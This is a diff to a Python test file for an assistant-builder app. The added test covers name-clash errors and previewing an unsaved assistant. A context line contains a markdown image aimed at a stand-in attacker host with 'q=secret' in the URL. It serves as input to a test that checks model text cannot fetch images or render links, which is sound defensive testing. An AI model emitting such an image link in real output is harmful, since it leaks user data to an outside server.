@@ -219,3 +219,27 @@ def test_model_text_cannot_fetch_images_or_render_links() -> None:
     out = safe_markdown("Done ![pixel](http://evil.example/?q=secret) see [docs](http://a.example/x)")
     assert "![" not in out and "](" not in out
     assert "[image: pixel]" in out and "docs (http://a.example/x)" in out
+
+
+def test_builder_names_a_taken_name_at_its_field_and_previews_what_is_on_screen(home: Path) -> None:
+    at = _app("ui/assistants.py")
+    at.text_input(key="f-name").set_value("harbor-notes")
+    at.multiselect(key="f-collections").set_value(["archivist-docs"])
+    at.button(key="FormSubmitter:builder-Save assistant").click().run()
+    assert (home / "assistants" / "harbor-notes.yaml").exists()
+    # a new assistant under a taken name: the error sits at the name field, nothing is overwritten
+    at.selectbox(key="builder-choice").set_value("(new assistant)").run()
+    at.text_input(key="f-name").set_value("harbor-notes")
+    at.multiselect(key="f-collections").set_value(["archivist-docs"])
+    at.selectbox(key="f-answer-mode").set_value("extractive")
+    at.button(key="FormSubmitter:builder-Save assistant").click().run()
+    assert any(e.value.startswith("name:") and "already exists" in e.value for e in at.error)
+    assert "extractive" not in (home / "assistants" / "harbor-notes.yaml").read_text()
+    # the preview answers with the form as it is on screen: renamed and extractive, never saved
+    at.text_input(key="f-name").set_value("draft-bot")
+    at.text_input(key="preview-q").set_value("How do I add documents to a collection?")
+    at.button(key="FormSubmitter:builder-Preview answer").click().run()
+    assert not at.exception, at.exception
+    assert not at.error, [e.value for e in at.error]
+    assert any(e.label.startswith("[1] ") for e in at.expander)  # answered from the documents
+    assert not (home / "assistants" / "draft-bot.yaml").exists()
